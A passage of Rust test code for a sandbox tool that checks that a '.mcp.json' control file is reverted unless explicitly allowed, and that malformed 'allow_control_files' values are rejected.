    let out = |r: &str| {
        let o = output_with_input(
            command(As::Root, SANDBOX)
                .args(["exec", "--json"])
                .current_dir(&dir),
            r.as_bytes(),
        );
        serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()
    };
    let v = out(&request(""));
    let reverted = v["isolation"]["reverted"].as_array().unwrap();
    assert!(
        reverted
            .iter()
            .any(|r| r["what"] == "control-file" && r["action"] == "removed"),
        "{v}"
    );
    assert!(!dir.join(".mcp.json").exists());
    let v = out(&request(",\"allow_control_files\":[\".mcp.json\"]"));
    // An empty list is left out of the result.
    assert!(
        v["isolation"]["reverted"]
            .as_array()
            .is_none_or(|r| r.is_empty()),
        "{v}"
    );
    assert!(dir.join(".mcp.json").exists());
    for bad in ["[\"../x\"]", "[\".bogus\"]", "\".mcp.json\"", "[1]"] {
        let v = out(&request(&format!(",\"allow_control_files\":{bad}")));
        let text = v.to_string();
        assert!(text.contains("allow_control_files"), "{bad}: {text}");
    }
}
